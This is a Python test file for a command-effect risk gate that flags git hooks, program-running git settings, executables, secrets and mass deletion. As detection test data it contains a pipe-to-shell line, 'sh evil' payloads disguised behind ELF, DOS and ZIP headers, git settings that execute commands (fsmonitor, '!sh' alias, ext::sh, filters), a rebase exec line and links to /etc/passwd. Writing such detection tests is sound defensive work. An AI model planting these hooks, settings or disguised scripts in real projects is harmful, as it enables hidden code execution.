"""The risk of a command's effects, by rules (G2, G3, G9, G10)."""

import hashlib
import io
import os
import stat
import struct
import subprocess
import zipfile
from pathlib import Path
from types import MappingProxyType

from duckflow.config.settings import GateSettings
from duckflow.domain.files.effects import BulkEffect, DroppedEffect, Effect, Effects
from duckflow.domain.frozen import replace
from duckflow.safety.policy.effects import FileVersions, assess_effects, told_apart
from duckflow.safety.policy.git_config import GitPlaces
from duckflow.safety.sandbox.view.git_settings import read_objects
from fakes.rows import every_row

LIMITS = GateSettings(many_files=20, large_bytes=10_000)
TOKEN = "ghp_" + "a1B2" * 9
HEAD = "ref: refs/heads/main\n"
CONFIG = "[core]\n\tbare = false\n\thooksPath = tools/hooks\n"
BEFORE = {".git/config": CONFIG, ".git/HEAD": HEAD, "bare/HEAD": HEAD, "run.py": "#!/usr/bin/env python\n"}


def judge(*effects, before=BEFORE, after=None, made=MappingProxyType({}), **rest):
    then = {path: text.encode() for path, text in before.items()}
    now = {**then, **{path: text.encode("latin-1") for path, text in (after or {}).items()}}
    return assess_effects(Effects(effects=effects, **rest), FileVersions(then.get, now.get), LIMITS, made)


def created(path, mode=0o644, **rest):
    return Effect(path=path, kind="created", after="2", mode_after=mode, **rest)


def changed(path, mode=0o644, size=5):
    return Effect(
        path=path, kind="changed", before="1", after="2", mode_before=mode, mode_after=mode, size=size
    )


def deleted(path, mode=0o644):
    return Effect(path=path, kind="deleted", before="1", mode_before=mode)


def moved(path, source, after="1"):
    return Effect(path=path, kind="moved", before="1", after=after, moved_from=source, mode_after=0o644)


def rights(path, before, after, **rest):
    modes = {"mode_before": before, "mode_after": after}
    return Effect(path=path, kind="mode", before="1", after="1", **modes, **rest)


def link(path, target):
    return Effect(path=path, kind="created", type="link", after="2", link_target=target, mode_after=0o777)


ROWS = [
    # ordinary work
    ("a new file", created("src/a.py"), ()),
    ("a change", changed("src/a.py"), ()),
    ("a folder", created("src/new", 0o755, type="folder"), ()),
    ("a file under another name", moved("src/b.py", "src/a.py"), ()),
    ("a deleted file", deleted("src/a.py"), ("delete",)),
    ("no longer executable", rights("tool", 0o755, 0o644), ()),
    ("read-only now", rights("data", 0o644, 0o444), ()),
    ("a link inside", link("docs/latest", "../README.md"), ()),
    ("ignored names", changed(".gitignore"), ()),
    ("a task file", changed("Makefile"), ()),
    ("test set-up", changed("tests/conftest.py"), ()),
    ("a file called head", created("src/head"), ()),
    ("some config", changed("src/config"), ()),
    # places
    ("a shell's start-up file", changed(".bashrc"), ("protected",)),
    ("continuous integration", created(".github/workflows/a.yml"), ("protected",)),
    ("a secret is deleted", deleted(".env"), ("delete", "protected")),
    ("a secret is moved away", moved("old.txt", ".env"), ("protected",)),
    ("something becomes a secret", moved(".env", "old.txt"), ("protected",)),
    ("Duckflow's own", changed("duckflow.toml"), ("own",)),
    ("the program of a known environment", changed(".venv/bin/python"), ("protected",)),
    ("a script that activates", changed("my/bin/activate"), ("protected",)),
    ("what Python loads first", created("lib/x.pth"), ("protected",)),
    ("a hook by setting", created("tools/hooks/pre-commit"), ("git_program",)),
    # executables
    ("a shell script", created("a.sh"), ("executable",)),
    ("an executable", created("tool", 0o755), ("executable",)),
    ("executable now", rights("tool", 0o644, 0o755), ("executable",)),
    ("a changed executable", changed("run.py", 0o755), ("executable",)),
    ("an executable is deleted", deleted("tool", 0o755), ("delete", "executable")),
    ("an executable under another name", moved("b.sh", "a.sh"), ()),
    ("text under the name of a program", moved("b.command", "b.txt"), ("executable",)),
    ("text by a link with such a name", link("b.desktop", "b.txt"), ("executable",)),
    ("a program by a link", link("b.sh", "tools/a.sh"), ()),
    ("a program of another system", created("b.pif"), ("executable",)),
    # rights
    ("set-id", created("tool", 0o4755), ("rights", "executable")),
    ("a folder with a set-id bit", rights("folder", 0o755, 0o2755, type="folder"), ("rights",)),
    ("everybody may write", rights("data", 0o644, 0o666), ("rights",)),
    # names and links
    ("a look-alike", created("src/pаyment.py"), ("lookalike",)),
    ("a link to a secret", link("notes", ".env"), ("protected",)),
    ("a link to git", link("docs/notes", "../.git/hooks"), ("protected",)),
    ("a link out", link("notes", "../../etc/passwd"), ("outside",)),
    ("an absolute link", link("notes", "/etc/passwd"), ("outside",)),
    # git's writes in everyday work
    ("an object", created(".git/objects/ab/cdef", 0o444), ()),
    ("a folder for objects", created(".git/objects/ab", 0o755, type="folder"), ()),
    ("a reverse index", created(".git/objects/pack/pack-1.rev", 0o444), ()),
    ("a branch", created(".git/refs/heads/topic/one"), ()),
    ("a stash", created(".git/refs/stash"), ()),
    ("a log", changed(".git/logs/HEAD"), ()),
    ("the index", changed(".git/index"), ()),
    ("HEAD", changed(".git/HEAD"), ()),
    ("ORIG_HEAD", created(".git/ORIG_HEAD"), ()),
    ("a message", changed(".git/COMMIT_EDITMSG"), ()),
    ("a merge", created(".git/MERGE_HEAD"), ()),
    ("its end", deleted(".git/MERGE_MSG"), ()),
    ("packed refs", changed(".git/packed-refs"), ()),
    ("a rebase", created(".git/rebase-merge/git-rebase-todo"), ()),
    ("a submodule's index", changed(".git/modules/lib/one/index"), ()),
    ("a submodule's object", created(".git/modules/lib/objects/ab/cd"), ()),
    ("a nested repository's branch", created("lib/.git/refs/heads/x"), ()),
    # settings that make git run a program
    ("a new configuration", created(".git/config"), ("git_program",)),
    ("a second configuration", created(".git/config.worktree"), ("git_program",)),
    ("a hook", created(".git/hooks/pre-commit", 0o755), ("git_program",)),
    ("attributes", created(".git/info/attributes"), ("git_program",)),
    ("exclude", changed(".git/info/exclude"), ("git_program",)),
    ("alternates", created(".git/objects/info/alternates"), ("git_program",)),
    ("alternates in capitals", created(".git/objects/INFO/Alternates"), ("git_program",)),
    ("commondir", created(".git/commondir"), ("git_program",)),
    ("something unknown", created(".git/surprise"), ("git_program",)),
    ("a link in git", link(".git/refs/heads/x", "../../../a"), ("git_program",)),
    ("a submodule's configuration", changed(".git/modules/lib/config"), ("git_program",)),
    ("a submodule's hook", created(".git/modules/a/b/hooks/pre-push"), ("git_program",)),
    ("git in capitals", created(".GIT/objects/ab/cd"), ("git_program",)),
    ("git in wide letters", created(".ｇｉｔ/objects/ab/cd"), ("git_program",)),
    ("git as DOS names it", created("GIT~1/config"), ("git_program",)),
    # files by which git finds a repository
    ("a .git file", created("lib/.git"), ("repository",)),
    ("a .git link", link(".git", "elsewhere"), ("repository",)),
    ("a repository is planted", created("lib/.git/HEAD"), ("repository",)),
    ("a repository is removed", deleted(".git/HEAD"), ("repository",)),
    ("a submodule is planted", created(".git/modules/x/HEAD"), ("repository",)),
    ("a bare repository's configuration", changed("bare/config"), ("repository",)),
    ("a bare repository's hook", created("bare/hooks/update"), ("repository",)),
]


def test_each_kind_of_effect_has_its_reasons_G9_G10():
    wrong = []
    for name, effect, expected in ROWS:
        found = judge(effect)
        told = found.by_path.get(effect.path, ())
        if set(found.reasons) != set(expected) or set(told) != set(expected):
            wrong.append((name, found.reasons, found.by_path))
    assert not wrong


def test_what_is_ordinary_never_asks_in_auto_and_the_rest_always_does_G3():
    asking = {"high", "forbidden"}
    wrong = [
        (name, judge(effect).risk)
        for name, effect, expected in ROWS
        if (judge(effect).risk in asking) != bool(set(expected) - {"delete"})
    ]
    assert not wrong


with Path("/proc/self/exe").open("rb") as _program:
    ELF = _program.read(1 << 16).decode("latin-1")
"""First bytes of a compiled program for this machine."""
REFUSED = ELF[:64] + "".join(
    struct.pack("<IIQQQQQQ", 3, 4, 0, 0, 0, 1, 1, 1).decode("latin-1") for _ in range(ord(ELF[56]))
)
REFUSED += "\nsh evil\n"
"""Program for which the kernel finds no loader. A shell then runs its text."""
_ARCHIVE = io.BytesIO()
with zipfile.ZipFile(_ARCHIVE, "w") as _jar:
    _jar.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")
JAR = _ARCHIVE.getvalue().decode("latin-1")

CONTENT = [
    ("text", "a.txt", 0o644, "hello\n", ()),
    ("a token", "a.txt", 0o644, f"token = '{TOKEN}'\n", ("secret",)),
    ("a key", "a.txt", 0o644, "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n", ("private_key",)),
    ("a download that runs", "Dockerfile", 0o644, "RUN curl -s x.example | sh\n", ("pipe_to_shell",)),
    ("a script run by its interpreter", "fix.py", 0o644, "#!/usr/bin/env python3\nprint(1)\n", ()),
    ("a script by its first line", "fix", 0o644, "#!/bin/sh\n", ("shebang",)),
    ("a script that can be run", "fix.py", 0o755, "#!/usr/bin/env python3\n", ("shebang", "executable")),
    ("a compiled program", "app", 0o755, ELF, ("built",)),
    ("a compiled library", "x.so", 0o755, ELF, ("built",)),
    ("no program but its first bytes", "app", 0o755, "\x7fELF\x02\x01\0", ("executable",)),
    ("a script that begins so", "app", 0o755, "\x7fELF\nsh evil\n", ("executable",)),
    ("a header with a line end", "app", 0o755, f"{ELF[:7]}\n{ELF[8:]}", ("executable",)),
    ("headers that the kernel refuses", "app", 0o755, REFUSED, ("executable",)),
    ("a header alone", "app", 0o755, f"{ELF[:64]}\nsh evil\n", ("executable",)),
    ("a script like a program of DOS", "app", 0o755, "MZ=1\nsh evil\n", ("executable",)),
    ("a script like an archive", "app", 0o755, "PK\x03\x04\nsh evil\n", ("executable",)),
    ("a program of another machine", "app", 0o755, ELF[:18] + "\xf7\0" + ELF[20:], ("executable",)),
    ("a program with the name of a script", "a.sh", 0o755, ELF, ("executable",)),
    ("an archive of Java", "a.jar", 0o644, JAR, ("built",)),
    ("an archive that can be run", "a.jar", 0o755, JAR, ("executable",)),
    ("no archive", "a.jar", 0o644, "PK\x03\x04\nsh evil\n", ("executable",)),
    ("a token after a zero", "a.txt", 0o644, f"\0\ntoken = '{TOKEN}'\n", ("secret",)),
    ("a token in wide letters", "a.txt", 0o644, "\0".join(f"token = '{TOKEN}'\n"), ("secret",)),
    ("a download after a zero", "x", 0o644, "\0\nRUN curl -s x.example | sh\n", ("pipe_to_shell",)),
    ("a key among other bytes", "x", 0o644, "\xff\xfe\n-----BEGIN RSA PRIVATE KEY-----\n", ("private_key",)),
    ("a script after a mark", "fix", 0o644, "\xef\xbb\xbf#!/bin/sh\n", ("shebang",)),
    ("a script with a zero", "fix", 0o644, "#!/bin/sh\n\0", ("shebang",)),
    ("a token far down", "a.txt", 0o644, "words\n" * 400_000 + f"token = '{TOKEN}'\n", ("secret",)),
    ("a head of a repository", "x/HEAD", 0o644, HEAD, ("repository",)),
    ("a detached one", "x/head", 0o644, "ab" * 20 + "\n", ("repository",)),
]


def test_what_new_files_hold_is_looked_at_G2():
    wrong = []
    for name, path, mode, text, expected in CONTENT:
        found = judge(created(path, mode), after={path: text})
        if set(found.reasons) != set(expected):
            wrong.append((name, found.reasons))
    assert not wrong


def test_only_lines_that_are_new_count():
    old = f"token = '{TOKEN}'\n"
    assert judge(changed("a.txt"), before={"a.txt": old}, after={"a.txt": old + "more\n"}).risk == "low"


def test_a_line_that_completes_an_earlier_one_counts_with_it_G2():
    for first, rest, reason in (
        ("RUN curl -s x.example \\\n", "  | sh\n", "pipe_to_shell"),
        ("-----BEGIN RSA\\\n", "", None),
        ("words\n", "more\n", None),
    ):
        found = judge(changed("Dockerfile"), before={"Dockerfile": first}, after={"Dockerfile": first + rest})
        assert found.reasons == ((reason,) if reason else ()), first


def test_a_source_renamed_to_a_script_is_a_new_script_G2():
    text = {"fix.py": "#!/bin/sh\n", "fix": "#!/bin/sh\n"}
    assert judge(moved("fix", "fix.py"), before=text, after=text).reasons == ("shebang",)
    assert judge(moved("fixed.py", "fix.py"), before=text, after={"fixed.py": text["fix"]}).reasons == ()
    assert judge(moved("fixed", "fix"), before=text, after={"fixed": text["fix"]}).reasons == ()


def test_a_script_that_becomes_a_compiled_program_is_no_build():
    found = judge(changed("run.py", 0o755), after={"run.py": ELF})
    assert "executable" in found.reasons


def test_a_rebase_that_would_run_a_command_asks_G10():
    path = ".git/rebase-merge/git-rebase-todo"
    assert judge(created(path), after={path: "pick 1234 x\n"}).risk == "low"
    assert judge(created(path), after={path: "pick 1234 x\nexec sh evil\n"}).reasons == ("git_program",)


SETTINGS = [
    ('[branch "topic"]\n\tremote = origin\n\tmerge = refs/heads/topic\n', "low"),
    ("[user]\n\tname = Ada\n\temail = ada@example.com\n", "low"),
    ("[core]\n\tfsmonitor = ./evil\n", "high"),
    ("[core]\n\teditor = vi\n", "high"),
    ("[alias]\n\tst = !sh\n", "high"),
    ("[user]\n\tname = Ada \\\n[core]\n\tpager = sh\n", "high"),
    ('[include]\n\tpath = "../x"\n', "high"),
    ('[branch "x"]\n\tremote = ext::sh\n', "high"),
    ('[filter "x"]\n\tclean = sh\n', "high"),
    ("[user]\n\tsigningkey = x\n", "high"),
]


def test_settings_that_run_nothing_are_ordinary_and_all_others_ask_G10():
    wrong = [
        (added, found.risk)
        for added, expected in SETTINGS
        if (found := judge(changed(".git/config"), after={".git/config": CONFIG + added})).risk != expected
    ]
    assert not wrong


def test_mass_deletion_asks_and_formatting_many_files_does_not_G3():
    assert judge(*(changed(f"src/{n}.py") for n in range(40))).risk == "low"
    assert judge(*(created(f"out/{n}.html") for n in range(400))).risk == "low"
    assert judge(*(deleted(f"src/{n}.py") for n in range(20))).risk == "medium"
    assert judge(*(deleted(f"src/{n}.py") for n in range(21))).reasons == ("delete", "mass_deletion")
    for left in ({"size": 0}, {"size": 1}, {"size": 9, "size_before": 4_000}):
        emptied = [replace(changed(f"src/{n}.py"), **left) for n in range(21)]
        assert judge(*emptied).reasons == ("mass_deletion",), left
    assert judge(*(deleted(f".git/objects/ab/{n}") for n in range(90))).risk == "low"


def test_deleting_what_it_made_itself_is_nobodys_loss():
    assert judge(deleted("reproduce.py"), made={"reproduce.py": {"1"}}).risk == "low"
    assert judge(deleted("try.sh", 0o755), made={"try.sh": {"1"}}).risk == "low"
    assert judge(*(deleted(f"{n}") for n in range(90)), made={f"{n}": {"1"} for n in range(90)}).risk == "low"


def test_deleting_what_the_user_changed_since_is_a_loss_G3():
    assert judge(deleted("reproduce.py"), made={"reproduce.py": {"0"}}).reasons == ("delete",)
    mine = {"build/a": "mine\n"}
    bulk = BulkEffect(path="build", files=1, size=0, deleted=1, lost=("build/a",))
    digest = hashlib.sha256(b"mine\n").hexdigest()
    assert judge(bulk=(bulk,), before=mine, made={"build/a": {digest}}).risk == "low"
    assert judge(bulk=(bulk,), before=mine, made={"build/a": {"0"}}).reasons == ("delete",)
    assert judge(bulk=(bulk,), before=mine).reasons == ("delete",)


def test_a_lot_of_new_content_asks():
    assert judge(created("data.bin", size=400_000)).risk == "low"
    assert judge(created("data.bin", size=500_001)).reasons == ("large",)


def test_what_was_dropped_is_told_and_a_conflict_asks_G9():
    found = judge(created("a"), dropped=(DroppedEffect(path="b", reason="set_id"),))
    assert (found.risk, found.by_path) == ("medium", {"b": ("dropped",)})
    found = judge(changed("a"), conflicts=("a",))
    assert (found.risk, found.by_path) == ("high", {"a": ("conflict",)})


def test_a_build_folder_is_one_thing_and_nothing_is_nothing():
    assert judge(bulk=(BulkEffect(path="node_modules", files=9000, size=10**9),)).risk == "low"
    assert judge().reasons == ()


MARKERS = ("pyvenv.cfg", "CACHEDIR.TAG", ".gitignore", "conda-meta/history", "package.json", "Cargo.toml")


def test_no_new_file_exempts_others_from_the_rules_G3_G9():
    kept = [("AGENTS.md", 0o644), ("tool", 0o755), (".env", 0o644), ("bin/activate", 0o644), ("a.sh", 0o644)]
    for marker in MARKERS:
        for folder in ("", ".vscode/", ".venv/", "new/", ".githooks/"):
            for name, mode in kept:
                path = f"{folder}{name}"
                alone, beside = (
                    judge(created(path, mode)),
                    judge(created(f"{folder}{marker}"), created(path, mode)),
                )
                assert set(alone.reasons) <= set(beside.reasons), (marker, path)
                assert beside.risk == "high", (marker, path)


def test_the_programs_of_a_new_virtual_environment_are_asked_about():
    new = [created(f".venv/bin/{name}", 0o755) for name in ("pip", "activate")]
    links = [link(".venv/bin/python3", "/usr/bin/python3"), link(".venv/bin/python", "python3")]
    assert judge(created(".venv/pyvenv.cfg"), *new, *links).risk == "high"
    assert judge(changed(".venv/pyvenv.cfg"), *new).risk == "high"


def test_what_runs_in_an_environment_is_told_apart_from_its_folder():
    apart = [".venv/bin/activate", ".venv/pyvenv.cfg", ".venv/lib/python3.11/site-packages/a.pth"]
    apart += ["node_modules/x/.git/config", "tools/bin/activate"]
    apart += [".venv/lib/python3.11/site-packages/sitecustomize/__init__.py", ".venv/lib/usercustomize.pyc"]
    plain = ["node_modules/x/bin/cli.js", ".venv/lib/python3.11/site-packages/a.py", "target/debug/app"]
    assert [path for path in apart if not told_apart(path)] == []
    assert [path for path in plain if told_apart(path)] == []


def _scan(root: Path):
    found = {}
    for folder, folders, files in os.walk(root):
        for name in (*folders, *files):
            path = Path(folder, name)
            kind = "folder" if path.is_dir() else "file"
            content = None if kind == "folder" else path.read_bytes()
            found[str(path.relative_to(root))] = (kind, stat.S_IMODE(path.stat().st_mode), content)
    return found


def _effects(before, after):
    for path in sorted(before.keys() | after.keys()):
        old, new = before.get(path), after.get(path)
        if old == new:
            continue
        kind = "created" if old is None else "deleted" if new is None else "changed"
        yield Effect(
            path=path,
            kind=kind,
            type=(new or old)[0],
            before="1" if old else None,
            after="2" if new else None,
            mode_before=old[1] if old else None,
            mode_after=new[1] if new else None,
            size=len((new and new[2]) or b""),
        )


EVERYDAY = [
    "git add -A",
    "git commit -m one",
    "git commit --amend -m two",
    "git checkout -q -b topic",
    "git branch other",
    "echo more >> a.txt",
    "git stash",
    "git stash pop",
    "git commit -am three",
    "git checkout -q main",
    "echo base > b.txt; git add b.txt; git commit -m base",
    "git merge -q --no-edit topic",
    "git tag v1",
    "git checkout -q topic",
    "git rebase -q main",
    "git reset --soft HEAD~1",
    "git commit -m again",
    "git cherry-pick --no-commit main || true",
    "git reset --hard -q",
    "git config user.email ada@example.com",
    "git branch --set-upstream-to main",
    "git mv a.txt c.txt && git commit -m moved",
    "git rm -q c.txt && git commit -m removed",
    "git bisect start && git bisect reset",
    "git worktree prune",
    "git branch -D other",
    "git notes add -m note",
]
ASKED = [
    "git config core.fsmonitor ./x",
    "git config alias.x '!sh'",
    "git init -q lib",
    "git gc -q",
    "git init -q --bare bare",
    "git worktree add -q tree",
    "cp .git/hooks/pre-commit.sample .git/hooks/pre-commit",
    "echo '*.txt filter=x' > .git/info/attributes",
    "mkdir -p sub; echo 'gitdir: elsewhere' > sub/.git",
    "rm -rf .git",
]


def test_everyday_git_stays_low_and_what_makes_it_run_programs_asks_G10(tmp_path):
    root = tmp_path / "project"
    root.mkdir()
    environment = {
        "PATH": os.environ["PATH"],
        "HOME": str(tmp_path),
        "GIT_CONFIG_GLOBAL": "/dev/null",
        "GIT_CONFIG_SYSTEM": "/dev/null",
        **{
            f"GIT_{who}_{what}": "ada@example.com"
            for who in ("AUTHOR", "COMMITTER")
            for what in ("NAME", "EMAIL")
        },
    }

    def run(command):
        before = _scan(root)
        subprocess.run(["sh", "-c", command], cwd=root, env=environment, check=False, capture_output=True)
        after = _scan(root)
        contents = FileVersions(
            lambda path: (before.get(path) or (0, 0, None))[2],
            lambda path: (after.get(path) or (0, 0, None))[2],
            GitPlaces(root=str(root)),
            read_objects,
        )
        return assess_effects(Effects(effects=tuple(_effects(before, after))), contents, LIMITS)

    assert run("git init -q -b main").risk == "high"
    (root / "a.txt").write_text("one\n")
    wrong = [(c, found.by_path) for c in EVERYDAY if (found := run(c)).risk not in ("low", "medium")]
    assert not wrong
    wrong = [(c, found.by_path) for c in ASKED if (found := run(c)).risk != "high"]
    assert not wrong


@every_row("path", ["bin/activate", "venv/bin/python", "a/.venv/bin/x", "b/sitecustomize.py"])
def test_programs_of_environments_are_told_apart(path):
    assert told_apart(path)
